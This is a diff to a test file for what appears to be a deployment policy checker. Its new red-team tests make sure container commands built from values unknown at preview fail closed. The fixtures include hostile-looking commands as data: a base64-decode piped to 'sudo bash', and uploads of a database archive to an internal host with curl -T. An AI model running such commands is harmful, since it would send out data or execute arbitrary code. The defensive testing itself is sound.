@@ -204,6 +204,9 @@ describe("user data the engine sends with marks for the values it cannot know", 
       script('eval "⟨unknown 1⟩"'),
       script(". ⟨unknown 1⟩"),
       script("echo ⟨unknown 1⟩ | base64 -d | sudo bash"),
+      // Red team 86: a command built from it runs any program, once known.
+      script("/usr/bin/⟨unknown 2⟩ -T /data/db.tgz http://10.0.1.5/u"),
+      script("/opt/⟨unknown 2⟩/bin/uploader /data/db.tgz"),
     ]) {
       expect(await judged(instance({ userData })(oregon), "vm")).toEqual([
         "mandatory: userData (unknown at preview)",
@@ -468,6 +471,26 @@ describe("a container's command holding a value not known at preview", () => {
     expect(await judged(command([unknown, "/data"]), "export")).toEqual([at(0)]);
     expect(await judged(command(["sh", "-c", unknown]), "export")).toEqual([at(2)]);
     expect(await judged(command(["sudo", "-u", "app", unknown]), "export")).toEqual([at(3)]);
+  });
+
+  // Red team 86 (k03d, k03f): a command word that holds the value (`/usr/bin/⟨…⟩`) was read as a
+  // program the reading does not know, which uploads nothing, and the workload passed.
+  test("fails closed when the command, or one the shell's script runs, is built from it", async () => {
+    const command = (words: unknown[]) => deployment({ command: words })(oregon);
+    const tool = `/usr/bin/${markText(2)}`;
+    expect(
+      await judged(command([tool, "-T", "/data/db.tgz", "http://10.0.1.5/u"]), "export"),
+    ).toEqual([at(0)]);
+    expect(
+      await judged(command(["sh", "-c", `${tool} -T /data/db.tgz http://10.0.1.5/u`]), "export"),
+    ).toEqual([at(2)]);
+    // Twin: the same value as an argument of a known program is judged as the line stands.
+    expect(
+      await judged(
+        command(["curl", "-T", `/data/${markText(2)}.tgz`, "http://10.0.1.5/u"]),
+        "export",
+      ),
+    ).toEqual([]);
   });
 
   test("fails closed when an upload's destination is built from it", async () => {
